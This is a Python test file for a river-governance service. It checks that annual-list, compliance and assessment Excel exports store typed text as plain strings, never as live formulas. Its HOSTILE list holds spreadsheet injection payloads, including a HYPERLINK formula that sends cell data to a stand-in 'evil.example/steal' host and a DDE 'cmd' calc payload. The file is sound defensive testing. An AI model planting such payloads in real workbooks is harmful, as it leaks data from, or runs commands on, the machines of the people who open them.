"""Class 7: text written into any workbook is a string cell, never a formula.

On the code issue 14 started from: ``=HYPERLINK(...)`` typed by a liaison unit into the
annual lists was written as a live formula into the county's download (openpyxl stores a
string starting with ``=`` as a formula), in the lists, the compliance and the assessment
workbooks alike.
"""

from __future__ import annotations

import io
import zipfile

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from service.governance.assessment.xlsx import workbook as assessment_workbook
from service.patrols.compliance_xlsx import compliance_xlsx
from service.patrols.schemas import ComplianceRow
from tests.hardening.conftest import Headers
from tests.support import river_id

HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")',
    "+1+2",
    "-3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _check(content: bytes) -> list[object]:
    """Every cell of every sheet: no formula anywhere (the XML too); returns the values."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    values: list[object] = []
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                values.append(cell.value)
    return values


def test_annual_lists_keep_hostile_text_as_text_and_numbers_as_numbers(
    client: TestClient, db: Session, auth_headers: Headers
) -> None:
    rid = river_id(db, "岷江")
    item = {"content": HOSTILE[0], "measure": HOSTILE[1], "note": HOSTILE[2]}
    task = {
        "content": HOSTILE[3],
        "responsible_unit": HOSTILE[4],
        "cooperating_units": HOSTILE[5],
    }
    saved = client.put(
        f"/api/v1/rivers/{rid}/annual-lists/2026",
        json={"targets": [item], "tasks": [task]},
        headers=auth_headers("office"),
    )
    assert saved.status_code == 200, saved.text
    r = client.get(f"/api/v1/rivers/{rid}/annual-lists/2026.xlsx", headers=auth_headers("county"))
    assert r.status_code == 200
    values = _check(r.content)
    for text in HOSTILE:
        assert text in values  # the text itself is kept as typed
    wb = load_workbook(io.BytesIO(r.content))
    assert wb["目标清单"]["A4"].value == 1 and wb["目标清单"]["A4"].data_type == "n"
    # The same workbook imports back to the same data.
    back = client.put(
        f"/api/v1/rivers/{rid}/annual-lists/2026.xlsx",
        content=r.content,
        headers={
            **auth_headers("office"),
            "Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        },
    )
    assert back.status_code == 200, back.text
    assert back.json()["targets"][0]["content"] == HOSTILE[0]


def test_compliance_and_assessment_workbooks_too() -> None:
    row = ComplianceRow(
        official_id=7,
        name=HOSTILE[0],
        role="river_chief",
        level="city",
        rule=HOSTILE[1],
        rule_source="seed §6",
        period="half",
        required_per_period=1,
        periods=[],
        reach_ids=[],
        coverage=0.5,
        required_total=3,
        required_per_half=1,
        required_h1=1,
        required_h2=1,
        h1=1,
        h2=0,
        total=1,
        compliant=False,
        missing=[HOSTILE[3]],
        held_days=365,
    )
    values = _check(compliance_xlsx([row], 2026))
    assert HOSTILE[0] in values and 7 in values and 3 in values
    data = {
        "year": 2026,
        "counties": [
            {
                "rank": 1,
                "county_name": HOSTILE[1],
                "county_code": "511111",
                "score": 88.5,
                "items": [
                    {
                        "item": HOSTILE[2],
                        "points": 8.5,
                        "max": 10,
                        "evidence": {"rule": HOSTILE[0], "ids": [1, 2]},
                    }
                ],
            }
        ],
    }
    values = _check(assessment_workbook(data))
    assert 88.5 in values and HOSTILE[1] in values
